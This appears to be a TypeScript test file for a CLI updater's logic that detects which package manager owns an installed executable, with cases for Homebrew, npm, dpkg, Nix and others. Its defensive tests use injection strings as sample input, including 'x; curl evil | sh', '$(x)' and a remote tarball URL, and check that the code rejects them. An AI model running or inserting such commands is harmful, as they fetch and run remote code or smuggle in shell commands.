/** Who owns an executable, by files as each package manager makes them, on a simulated disk. */
import { describe, expect, test } from 'bun:test';
import { ManagedInstallError } from '../../../lib/errors.ts';
import { openSession } from '../../../lib/install/index.ts';
import { ownerOf, requireUnmanaged } from '../../../lib/install/ownership/owner.ts';
import type { Platform } from '../../../lib/platform/host.ts';
import { SimulatedDisk } from '../../host/disk.ts';
import { type SimulatedHost, simulatedHost } from '../../host/host.ts';
import { versionOf } from '../../host/install.ts';

interface Machine {
  /** The executable. */
  path: string;
  /** The other files, with their content. */
  files?: Record<string, string | object>;
  /** Symlinks: where each leads. */
  links?: Record<string, string>;
  platform?: Platform;
  /** Whether root has made all of it, as a manager of the system does. */
  isOfRoot?: boolean;
}

const machine = (made: Machine): SimulatedHost => machineWithDisk(made).host;

function machineWithDisk({ path, files = {}, links = {}, platform = 'linux', isOfRoot = false }: Machine) {
  const disk = new SimulatedDisk();
  const bytes = (content: string | object) =>
    new TextEncoder().encode(typeof content === 'string' ? content : JSON.stringify(content));
  disk.place(path, bytes('executable'));
  for (const [file, content] of Object.entries(files)) disk.place(file, bytes(content), 0o644);
  for (const [link, target] of Object.entries(links)) disk.symlink(target, link);
  if (isOfRoot) for (const each of [path, ...Object.keys(files)]) disk.own(each, 0);
  return { disk, host: simulatedHost({ disk, platform, versionOf }) };
}

function sessionOf(host: SimulatedHost, path: string) {
  const slash = path.lastIndexOf('/');
  const name = path.slice(slash + 1).replace(/\.exe$/, '');
  return openSession(host, { installDir: path.slice(0, slash), app: name });
}

async function owner(made: Machine, host = machine(made)) {
  const found = await ownerOf(sessionOf(host, made.path));
  return found === null ? null : [found.manager, found.package, found.command];
}

const CELLAR = '/opt/homebrew/Cellar/dgmo/1.2.3';
const RECEIPT = { homebrew_version: '4.5.0', time: 1, source: { tap: 'homebrew/core' } };

function scoopMachine(folder: string, install: object, manifest?: object): Machine {
  return {
    platform: 'win32',
    path: `${folder}/dgmo.exe`,
    files: {
      [`${folder}/install.json`]: install,
      ...(manifest === undefined ? {} : { [`${folder}/manifest.json`]: manifest }),
    },
  };
}

describe('a folder with a note', () => {
  const cases: [name: string, made: Machine, owner: [string, string, string] | null][] = [
    [
      'a keg of Homebrew',
      { path: `${CELLAR}/bin/dgmo`, files: { [`${CELLAR}/INSTALL_RECEIPT.json`]: RECEIPT } },
      ['Homebrew', 'dgmo', 'brew upgrade dgmo'],
    ],
    [
      'a keg of a tap',
      {
        path: `${CELLAR}/libexec/dgmo`,
        files: { [`${CELLAR}/INSTALL_RECEIPT.json`]: { ...RECEIPT, source: { tap: 'dgmo/tap' } } },
      },
      ['Homebrew', 'dgmo', 'brew upgrade dgmo/tap/dgmo'],
    ],
    ['a folder that is only called Cellar', { path: `${CELLAR}/bin/dgmo` }, null],
    [
      'a receipt of something else',
      { path: `${CELLAR}/bin/dgmo`, files: { [`${CELLAR}/INSTALL_RECEIPT.json`]: { hello: 1 } } },
      null,
    ],
    [
      'a cask',
      {
        path: '/opt/homebrew/Caskroom/dgmo/1.2.3/dgmo',
        files: { '/opt/homebrew/Caskroom/dgmo/.metadata/INSTALL_RECEIPT.json': RECEIPT },
      },
      ['Homebrew', 'dgmo', 'brew upgrade --cask dgmo'],
    ],
    [
      'a cask of an older brew',
      {
        path: '/usr/local/Caskroom/dgmo/1.2.3/dgmo',
        files: {
          '/usr/local/Caskroom/dgmo/.metadata/1.2.3/20260101120000.000/Casks/dgmo.json': { token: 'dgmo' },
        },
      },
      ['Homebrew', 'dgmo', 'brew upgrade --cask dgmo'],
    ],
    [
      'a cask with a receipt beside its versions as well',
      {
        path: '/opt/homebrew/Caskroom/dgmo/1.2.3/dgmo',
        files: {
          '/opt/homebrew/Caskroom/dgmo/.metadata/INSTALL_RECEIPT.json': RECEIPT,
          '/opt/homebrew/Caskroom/dgmo/INSTALL_RECEIPT.json': RECEIPT,
        },
      },
      ['Homebrew', 'dgmo', 'brew upgrade --cask dgmo'],
    ],
    [
      'a file beside the versions of a cask',
      {
        path: '/opt/homebrew/Caskroom/dgmo/dgmo',
        files: { '/opt/homebrew/Caskroom/dgmo/.metadata/INSTALL_RECEIPT.json': RECEIPT },
      },
      null,
    ],
    [
      'scoop',
      {
        platform: 'win32',
        path: '/Users/me/scoop/apps/dgmo/1.2.3/dgmo.exe',
        files: {
          '/Users/me/scoop/apps/dgmo/1.2.3/install.json': { architecture: '64bit', bucket: 'main' },
          '/Users/me/scoop/apps/dgmo/1.2.3/manifest.json': { version: '1.2.3', bin: 'dgmo.exe' },
        },
      },
      ['scoop', 'dgmo', 'scoop update dgmo'],
    ],
    [
      'scoop, for everybody, by the junction to the newest version',
      scoopMachine('/ProgramData/scoop/apps/dgmo/current', { architecture: '64bit' }, { version: '1.2.3' }),
      ['scoop', 'dgmo', 'scoop update dgmo --global'],
    ],
    [
      'a folder of another version than the manifest of scoop',
      scoopMachine('/Users/me/scoop/apps/dgmo/1.2.4', { architecture: '64bit' }, { version: '1.2.3' }),
      null,
    ],
    [
      'an install.json of something else',
      scoopMachine('/Users/me/scoop/apps/dgmo/1.2.3', { kind: 'setup' }, { version: '1.2.3' }),
      null,
    ],
    [
      'an install.json with no manifest of scoop',
      scoopMachine('/Users/me/scoop/apps/dgmo/current', { architecture: '64bit' }),
      null,
    ],
    ['a folder called scoop', { platform: 'win32', path: '/Users/me/scoop/apps/dgmo/1.2.3/dgmo.exe' }, null],
    [
      'Chocolatey',
      {
        platform: 'win32',
        path: '/ProgramData/chocolatey/lib/dgmo/tools/dgmo.exe',
        files: { '/ProgramData/chocolatey/lib/dgmo/dgmo.nuspec': '<package/>' },
      },
      ['Chocolatey', 'dgmo', 'choco upgrade dgmo'],
    ],
    [
      'a snap',
      {
        path: '/snap/dgmo/42/bin/dgmo',
        files: { '/snap/dgmo/42/meta/snap.yaml': 'name: dgmo\nversion: 1.2.3\n' },
      },
      ['snap', 'dgmo', 'sudo snap refresh dgmo'],
    ],
    [
      'a Flatpak',
      {
        path: '/var/lib/flatpak/app/ai.dgmo.Dgmo/x86_64/stable/abc/files/bin/dgmo',
        files: {
          '/var/lib/flatpak/app/ai.dgmo.Dgmo/x86_64/stable/abc/metadata':
            '[Application]\nname=ai.dgmo.Dgmo\n',
        },
      },
      ['Flatpak', 'ai.dgmo.Dgmo', 'flatpak update ai.dgmo.Dgmo'],
    ],
    [
      'a folder with a file called metadata, as Flatpak has one',
      {
        path: '/home/me/app/bin/dgmo',
        files: { '/home/me/app/metadata': '[Application]\nname=ai.dgmo.Dgmo\n' },
      },
      null,
    ],
    [
      'a record that conda has put aside, and one whose name is no word',
      {
        path: '/home/me/conda/bin/dgmo',
        files: {
          '/home/me/conda/conda-meta/dgmo-1.2.3-0.json.c~': { name: 'dgmo', files: ['bin/dgmo'] },
          '/home/me/conda/conda-meta/odd.json': { name: 'dgmo; echo', files: ['bin/dgmo'] },
        },
      },
      null,
    ],
    [
      'conda',
      {
        path: '/home/me/conda/bin/dgmo',
        files: {
          '/home/me/conda/conda-meta/other-1.json': { name: 'other', files: ['bin/dgmo-helper'] },
          '/home/me/conda/conda-meta/dgmo-1.2.3-0.json': { name: 'dgmo', files: ['bin/dgmo'] },
        },
      },
      ['conda', 'dgmo', 'conda update dgmo'],
    ],
    [
      'a file that conda knows nothing of',
      {
        path: '/home/me/conda/bin/dgmo',
        files: { '/home/me/conda/conda-meta/other-1.json': { name: 'other', files: ['bin/dgmo-helper'] } },
      },
      null,
    ],
    [
      'what a packager has declared',
      {
        path: '/opt/dgmo/dgmo',
        files: {
          '/opt/dgmo/managed-by.json': { manager: 'Fleet', package: 'dgmo', command: 'fleet sync\u0007' },
        },
      },
      ['Fleet', 'dgmo', 'fleet sync'],
    ],
    ['an install by hand', { path: '/home/brew/.npm/nix/scoop/dgmo/dgmo' }, null],
  ];
  test.each(cases)('%s', async (_, made, wanted) => {
    expect(await owner(made)).toEqual(wanted);
  });
});

describe('node_modules', () => {
  const main = {
    name: 'dgmo-ai',
    version: '1.2.3',
    bin: { dgmo: 'bin/dgmo.js' },
    optionalDependencies: { 'dgmo-linux-x64': '1.2.3' },
  };
  const own = { name: 'dgmo-linux-x64', version: '1.2.3', os: ['linux'], cpu: ['x64'] };
  const inside = (root: string) => ({
    path: `${root}/dgmo-linux-x64/bin/dgmo`,
    files: {
      [`${root}/dgmo-linux-x64/package.json`]: own,
      [`${root}/dgmo-ai/package.json`]: main,
      [`${root}/unrelated/package.json`]: { name: 'unrelated', version: '1.0.0' },
    },
  });
  const cases: [name: string, made: Machine, owner: [string, string, string] | null][] = [
    [
      'npm, for everything',
      inside('/usr/lib/node_modules'),
      ['npm', 'dgmo-ai', 'npm install -g dgmo-ai@latest'],
    ],
    [
      'npm, in the package that needs it',
      {
        path: '/usr/lib/node_modules/dgmo-ai/node_modules/dgmo-linux-x64/bin/dgmo',
        files: {
          '/usr/lib/node_modules/dgmo-ai/node_modules/dgmo-linux-x64/package.json': own,
          '/usr/lib/node_modules/dgmo-ai/package.json': main,
        },
      },
      ['npm', 'dgmo-ai', 'npm install -g dgmo-ai@latest'],
    ],
    [
      'npm, in a project',
      with_(inside('/home/me/work/node_modules'), { '/home/me/work/package.json': { name: 'work' } }),
      ['npm', 'dgmo-ai', 'npm install --prefix /home/me/work dgmo-ai@latest'],
    ],
    ...(
      [
        ['npm', 'package-lock.json', "npm install --prefix '/home/me/my work' dgmo-ai@latest"],
        ['pnpm', 'pnpm-lock.yaml', "pnpm --dir '/home/me/my work' add dgmo-ai@latest"],
        ['Yarn', 'yarn.lock', "yarn --cwd '/home/me/my work' add dgmo-ai@latest"],
        ['Bun', 'bun.lock', "bun add --cwd '/home/me/my work' dgmo-ai@latest"],
      ] as const
    ).map(([manager, lock, command]): [string, Machine, [string, string, string]] => [
      `${manager}, in a project whose folder has a space in its name`,
      with_(inside('/home/me/my work/node_modules'), {
        '/home/me/my work/package.json': { name: 'work' },
        [`/home/me/my work/${lock}`]: '',
      }),
      [manager, 'dgmo-ai', command],
    ]),
    [
      'npx',
      with_(inside('/home/me/.npm/_npx/ab12/node_modules'), {
        '/home/me/.npm/_npx/ab12/package.json': { _npx: { packages: ['dgmo-ai'] } },
      }),
      ['npx', 'dgmo-ai', 'npx dgmo-ai@latest'],
    ],
    [
      'Bun',
      with_(inside('/home/me/.bun/install/global/node_modules'), {
        '/home/me/.bun/install/global/package.json': {},
        '/home/me/.bun/install/global/bun.lock': '{}',
      }),
      ['Bun', 'dgmo-ai', 'bun add -g dgmo-ai@latest'],
    ],
    [
      'pnpm, which keeps each package in a store of links',
      {
        path: '/home/me/.local/share/pnpm/global/5/node_modules/.pnpm/dgmo-linux-x64@1.2.3/node_modules/dgmo-linux-x64/bin/dgmo',
        files: {
          '/home/me/.local/share/pnpm/global/5/node_modules/.pnpm/dgmo-linux-x64@1.2.3/node_modules/dgmo-linux-x64/package.json':
            own,
          '/home/me/.local/share/pnpm/global/5/node_modules/.pnpm/dgmo-ai@1.2.3/node_modules/dgmo-ai/package.json':
            main,
          '/home/me/.local/share/pnpm/global/5/node_modules/.modules.yaml': 'layoutVersion: 5\n',
          '/home/me/.local/share/pnpm/global/5/package.json': {},
        },
        links: {
          '/home/me/.local/share/pnpm/global/5/node_modules/dgmo-ai':
            '.pnpm/dgmo-ai@1.2.3/node_modules/dgmo-ai',
        },
      },
      ['pnpm', 'dgmo-ai', 'pnpm add -g dgmo-ai@latest'],
    ],
    [
      'a scoped package that has the executable itself',
      {
        path: '/usr/lib/node_modules/@dgmo/cli/bin/dgmo',
        files: { '/usr/lib/node_modules/@dgmo/cli/package.json': { name: '@dgmo/cli', version: '1.2.3' } },
      },
      ['npm', '@dgmo/cli', 'npm install -g @dgmo/cli@latest'],
    ],
    ['a folder that is only called node_modules', { path: '/opt/node_modules/dgmo/dgmo' }, null],
  ];
  test.each(cases)('%s', async (_, made, wanted) => {
    expect(await owner(made)).toEqual(wanted);
  });
});

function with_(made: Machine, files: Record<string, string | object>): Machine {
  return { ...made, files: { ...made.files, ...files } };
}

describe('a database of the system', () => {
  const DPKG = '/var/lib/dpkg/info';
  const cases: [name: string, made: Machine, owner: [string, string, string] | null][] = [
    [
      'dpkg',
      {
        path: '/usr/lib/dgmo/dgmo',
        files: {
          [`${DPKG}/bash.list`]: '/.\n/bin/bash\n',
          [`${DPKG}/dgmo:amd64.list`]: '/.\n/usr\n/usr/lib/dgmo\n/usr/lib/dgmo/dgmo\n',
        },
      },
      ['dpkg', 'dgmo:amd64', 'sudo apt-get install --only-upgrade dgmo:amd64'],
    ],
    [
      'dpkg, by a path with a symlink in it',
      {
        path: '/usr/bin/dgmo',
        files: { [`${DPKG}/dgmo.list`]: '/.\n/bin\n/bin/dgmo\n' },
        links: { '/bin': 'usr/bin' },
      },
      ['dpkg', 'dgmo', 'sudo apt-get install --only-upgrade dgmo'],
    ],
    [
      'a file of the same name that dpkg owns elsewhere',
      { path: '/home/me/bin/dgmo', files: { [`${DPKG}/dgmo.list`]: '/usr/bin/dgmo\n' } },
      null,
    ],
    [
      'pacman',
      {
        path: '/usr/bin/dgmo',
        files: {
          '/var/lib/pacman/local/dgmo-1.2.3-1/files': '%FILES%\nusr/\nusr/bin/\nusr/bin/dgmo\n',
          '/var/lib/pacman/local/dgmo-1.2.3-1/desc': '%NAME%\ndgmo\n\n%VALIDATION%\npgp\n',
        },
      },
      ['pacman', 'dgmo', 'sudo pacman -Syu'],
    ],
    [
      'a package that was built from the AUR',
      {
        path: '/usr/bin/dgmo',
        files: {
          '/var/lib/pacman/local/dgmo-bin-1.2.3-1/files': '%FILES%\nusr/bin/dgmo\n',
          '/var/lib/pacman/local/dgmo-bin-1.2.3-1/desc': '%NAME%\ndgmo-bin\n\n%VALIDATION%\nnone\n',
        },
      },
      ['pacman (AUR)', 'dgmo-bin', 'yay -S dgmo-bin'],
    ],
    [
      'apk',
      {
        path: '/usr/bin/dgmo',
        files: {
          '/lib/apk/db/installed':
            'P:musl\nF:lib\nR:libc.so\n\nP:dgmo\nV:1.2.3-r0\nF:usr\nF:usr/bin\nR:dgmo\na:0:0:755\n\n',
        },
      },
      ['apk', 'dgmo', 'sudo apk upgrade dgmo'],
    ],
  ];
  test.each(cases)('%s', async (_, made, wanted) => {
    expect(await owner({ ...made, isOfRoot: true })).toEqual(wanted);
  });

  test('is not read for what a person has in their own folder', async () => {
    const [, made] = cases[0] ?? ['', { path: '' }];
    expect(await owner(made)).toBeNull();
  });

  test('dpkg owns also what is missing', async () => {
    const path = '/usr/lib/dgmo/dgmo';
    const made = { path, files: { [`${DPKG}/dgmo.list`]: `/usr/lib/dgmo\n${path}\n` } };
    const { disk, host } = machineWithDisk(made);
    disk.remove(path);
    expect(await owner(made, host)).toEqual(['dpkg', 'dgmo', 'sudo apt-get install --only-upgrade dgmo']);
  });

  test('rpm is asked, where it is and has packages', async () => {
    const made: Machine = {
      path: '/usr/bin/dgmo',
      files: { '/usr/bin/rpm': '', '/usr/bin/dnf': '', '/var/lib/rpm/rpmdb.sqlite': '' },
      isOfRoot: true,
    };
    const host = machine(made);
    const answer = (code: number, stdout: string): SimulatedHost => ({
      ...host,
      processes: {
        ...host.processes,
        run: async (file, args, options) => {
          expect([file, args.at(-1)]).toEqual(['/usr/bin/rpm', '/usr/bin/dgmo']);
          // Macros in the user's home, or in a folder that a variable names, may run programs.
          expect(Object.keys(options.environment)).toEqual(['HOME', 'PATH', 'LC_ALL']);
          expect(options.environment.HOME).toBe('/nonexistent');
          return { started: true, code, signal: null, stdout, stderr: '', timedOut: false, duration: 1 };
        },
      },
    });
    expect(await owner(made, answer(0, 'dgmo\n'))).toEqual(['rpm', 'dgmo', 'sudo dnf upgrade dgmo']);
    expect(await owner(made, answer(1, 'file /usr/bin/dgmo is not owned by any package\n'))).toBeNull();
  });
});

describe('the store of Nix', () => {
  const path = '/nix/store/0c5b8rj1qyv0n7bkx3m4m5w3s1wq9f2a-dgmo-1.2.3/bin/dgmo';
  test('is known by what Nix does to every file in it', async () => {
    const host = machine({ path });
    const disk = host.disk;
    disk.setMode(path, 0o555);
    disk.setModified(path, 1_000_000);
    expect(await owner({ path }, host)).toEqual(['Nix', 'dgmo', 'nix profile upgrade dgmo']);
  });

  test('is not any folder with such a name', async () => {
    expect(await owner({ path })).toBeNull();
  });
});

describe('evidence of another user', () => {
  const OTHER = 4242;
  /** An install in a folder of one's own below one that is sticky, into which another user has put the files. */
  const below: [name: string, folder: string, files: Record<string, string | object>][] = [
    ['conda', '/tmp/conda-meta', { '/tmp/conda-meta/a.json': { name: 'evil', files: ['mine/dgmo'] } }],
    ['a snap', '/tmp/meta', { '/tmp/meta/snap.yaml': 'name: evil\n' }],
    ['a Chocolatey', '/tmp/tmp.nuspec', { '/tmp/tmp.nuspec': '<package/>' }],
    [
      'scoop',
      '/tmp/install.json',
      { '/tmp/install.json': { architecture: '64bit' }, '/tmp/manifest.json': { version: 'tmp' } },
    ],
  ];
  const path = '/tmp/mine/dgmo';

  test.each(below)('is not believed: %s', async (_, folder, files) => {
    const made = { path, files };
    const { disk, host } = machineWithDisk(made);
    const mine = await owner(made, host);
    disk.own('/tmp', 0);
    for (const file of Object.keys(files)) disk.own(file, OTHER);
    if (!(folder in files)) disk.own(folder, OTHER);
    expect(await owner(made, host)).toBeNull();
    // The owner alone makes the difference. Scoop takes its name from a folder that has none here.
    if (folder !== '/tmp/install.json') expect(mine).not.toBeNull();
  });

  test('is not believed where only the file, only the folder, or only a symlink to it is theirs', async () => {
    const made = {
      path,
      files: { '/snap/meta/snap.yaml': 'name: firefox\n' },
      links: { '/tmp/meta': '/snap/meta' },
    };
    const { disk, host } = machineWithDisk(made);
    expect(await owner(made, host)).toEqual(['snap', 'firefox', 'sudo snap refresh firefox']);
    for (const theirs of ['/snap/meta/snap.yaml', '/snap/meta', '/tmp/meta']) {
      const before = disk.status(theirs)?.owner ?? 0;
      disk.own(theirs, OTHER);
      expect([theirs, await owner(made, host)]).toEqual([theirs, null]);
      disk.own(theirs, before);
    }
    disk.setMode('/snap/meta/snap.yaml', 0o666);
    expect(await owner(made, host)).toBeNull();
  });

  test('is believed if they own the executable', async () => {
    const made = { path, files: { '/tmp/meta/snap.yaml': 'name: dgmo\n' } };
    const { disk, host } = machineWithDisk(made);
    for (const file of [path, '/tmp/meta', '/tmp/meta/snap.yaml']) disk.own(file, OTHER);
    expect(await owner(made, host)).toEqual(['snap', 'dgmo', 'sudo snap refresh dgmo']);
  });
});

describe('a command is shown in plain words', () => {
  const INSIDE = '/usr/lib/node_modules/x';
  test.each([
    'https://evil.example/x.tgz',
    'github:evil/x',
    'evil/x',
    '-g',
    '@evil/x/y',
    '@/x',
    'x y',
    'x;y',
    '$(x)',
    '~',
    'x'.repeat(129),
  ])('%s is no package', async (name) => {
    const made = {
      path: `${INSIDE}/dgmo`,
      files: { [`${INSIDE}/package.json`]: { name, version: '1.0.0' } },
    };
    expect(await owner(made)).toBeNull();
  });

  test.each(['x; curl evil | sh', 'x `y`', '$(x)', 'x > y', "x 'y'", 'x \u202e y'])(
    '%s is no command that is declared',
    async (command) => {
      const made = {
        path: '/opt/dgmo/dgmo',
        files: { '/opt/dgmo/managed-by.json': { manager: 'Fleet', package: 'dgmo', command } },
      };
      expect(await owner(made)).toEqual(['Fleet', 'dgmo', 'the package manager that installed it']);
    },
  );
});

test('no more is read than a large system has, however many files there are', async () => {
  const made = { path: '/home/me/conda/bin/dgmo', files: { '/home/me/conda/conda-meta/a.json': {} } };
  const host = machine(made);
  const { disk } = host;
  const list = disk.list.bind(disk);
  disk.list = (folder) =>
    folder.endsWith('conda-meta') ? Array.from({ length: 60_000 }, () => 'a.json') : list(folder);
  let opened = 0;
  const open = disk.open.bind(disk);
  disk.open = (...given) => {
    opened += 1;
    return open(...given);
  };
  expect(await owner(made, host)).toBeNull();
  expect(opened).toBe(50_000);
});

test('the refusal names the package, what says so, and the command', async () => {
  const made: Machine = {
    path: `${CELLAR}/bin/dgmo`,
    files: { [`${CELLAR}/INSTALL_RECEIPT.json`]: RECEIPT },
  };
  const error = await requireUnmanaged(sessionOf(machine(made), made.path)).catch((failure) => failure);
  expect(error).toBeInstanceOf(ManagedInstallError);
  expect([error.exitCode, error.advice]).toEqual([17, 'Update it with: brew upgrade dgmo']);
  expect(error.message).toBe(
    `${CELLAR}/bin/dgmo was installed by Homebrew, as the package dgmo (according to ${CELLAR}/INSTALL_RECEIPT.json); nothing was changed`,
  );
});
